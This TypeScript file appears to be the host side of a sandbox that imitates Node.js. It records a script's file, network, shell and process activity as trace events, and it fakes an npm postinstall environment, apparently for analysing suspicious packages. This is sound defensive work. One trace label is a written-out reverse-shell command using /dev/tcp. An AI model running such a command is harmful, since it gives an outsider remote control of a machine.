// The host's half of an imitated Node: what its modules ask of the machine → events of the trace.
import { inflateBounded } from '../../file/formats/script/inflate.ts'
import type { QuestionEvent } from '../../trace/system.ts'
import type { World } from '../world/world.ts'
import type { Json } from './bridge.ts'
import { deciphered, hashed } from './ciphers.ts'

type Request = Readonly<Record<string, Json>>

const ABOUT: ReadonlySet<string> = new Set(['user', 'host', 'hardware', 'network'])

export class NodeHost {
  readonly #world: World
  readonly #quit: (code: number) => void

  constructor(world: World, quit: (code: number) => void) {
    this.#world = world
    this.#quit = quit
  }

  answer(op: string, request: Request): Json | undefined {
    const { files, recorder } = this.#world
    const text = (name: string): string => (typeof request[name] === 'string' ? request[name] : '')
    const path = this.#world.path(text('path'))
    switch (op) {
      case 'node_machine':
        return this.#machine()
      case 'node_read': {
        const bytes = files.read(path)
        return bytes === null ? {} : { v: Buffer.from(bytes).toString('latin1') }
      }
      case 'node_write':
        files.write(path, Buffer.from(text('text'), 'latin1'), request['append'] === true)
        return {}
      case 'node_exists':
        return { v: files.exists(path) || (this.#world.system === 'windows' && files.folderExists(path)) }
      case 'node_list':
        return { v: files.list(path).map((one) => one.replace(/^.*[\\/]/, '')) }
      case 'node_mkdir':
        files.makeFolder(path)
        return {}
      case 'node_delete':
        files.delete(path)
        return {}
      case 'node_mode':
        files.mode(path, text('mode'))
        return {}
      case 'node_copy':
        files.copy(path, this.#world.path(text('to')))
        return {}
      case 'node_move':
        files.move(path, this.#world.path(text('to')))
        return {}
      case 'node_web':
        return this.#web(text('method'), text('url'), text('body'), text('agent'))
      case 'node_dns':
        recorder.network({ kind: 'dns', name: text('name').slice(0, 253) })
        return {}
      case 'node_tcp':
        recorder.network({ kind: 'tcp', host: text('host').slice(0, 253), port: Number(request['port']) || 0 })
        return {}
      case 'node_listen':
        recorder.network({ kind: 'listen', host: '0.0.0.0', port: Number(request['port']) || 0 })
        return {}
      case 'node_shell':
        // A connection was made the keyboard of a program: the trace says so as a shell that was handed out.
        recorder.layer({ depth: 1, technique: 'transcript', language: 'shell', text: 'sh -i <> /dev/tcp/peer/1' })
        return {}
      case 'node_start': {
        const line = text('line').slice(0, 16_000)
        this.#world.start(line, 'call', request['hidden'] === true && this.#world.system === 'windows')
        return { v: `${this.#printed(line)}\n` }
      }
      case 'node_question': {
        const about = text('about')
        if (ABOUT.has(about))
          recorder.systemEvent({ kind: 'question', about: about as QuestionEvent['about'], what: text('what') })
        return {}
      }
      case 'node_hash':
        return { v: hashed(text('name'), typeof request['key'] === 'string' ? request['key'] : null, text('text')) }
      case 'node_decipher':
        return { v: deciphered(text('name'), text('key'), text('iv'), text('text')) }
      case 'node_inflate':
        return { v: Buffer.from(inflateBounded(Buffer.from(text('text'), 'latin1')) ?? []).toString('latin1') }
      case 'node_unknown':
        recorder.notCovered(`There is no imitation of the module ${text('name').slice(0, 80)}.`)
        return {}
      case 'node_exit':
        this.#quit(Number(request['code']) || 0)
        return {}
      case 'threw':
        recorder.notCovered(`A promise of the script ended with ${text('text').slice(0, 200)}.`)
        return {}
      default:
        return undefined
    }
  }

  #machine(): Json {
    const isWindows = this.#world.system === 'windows'
    const { identity, variables } = this.#world
    const upper = [...variables].map(([name, value]) => [name.toUpperCase(), value] as const)
    return {
      platform: isWindows ? 'win32' : 'linux',
      processors: identity.processors,
      memory: identity.memoryBytes,
      host: isWindows ? identity.host : (variables.get('hostname') ?? ''),
      user: isWindows ? identity.user : (variables.get('user') ?? ''),
      home: isWindows ? (variables.get('userprofile') ?? '') : (variables.get('home') ?? ''),
      temp: isWindows ? (variables.get('temp') ?? '') : '/tmp',
      folder: this.#world.currentFolder,
      script: this.#world.scriptPath,
      env: {
        ...Object.fromEntries(upper),
        npm_lifecycle_event: 'postinstall',
        npm_config_user_agent: 'npm/10.2.4 node/v20.11.1',
      },
    }
  }

  #web(method: string, url: string, body: string, agent: string): Json {
    const { text, bytes, status, type } = this.#world.web.request({
      method,
      url,
      body,
      via: 'node',
      ...(agent !== '' && { userAgent: agent }),
    })
    return { status, text: /octet/.test(type) ? Buffer.from(bytes).toString('latin1') : text }
  }

  /** What the usual questions print. */
  #printed(line: string): string {
    const { identity } = this.#world
    if (/^(?:whoami|id -un)\b/.test(line)) return identity.user
    if (/^hostname\b/.test(line)) return identity.host
    return /^(?:node|npm|git|python3?)\s+(?:-v|--version)/.test(line) ? '20.11.1' : ''
  }
}
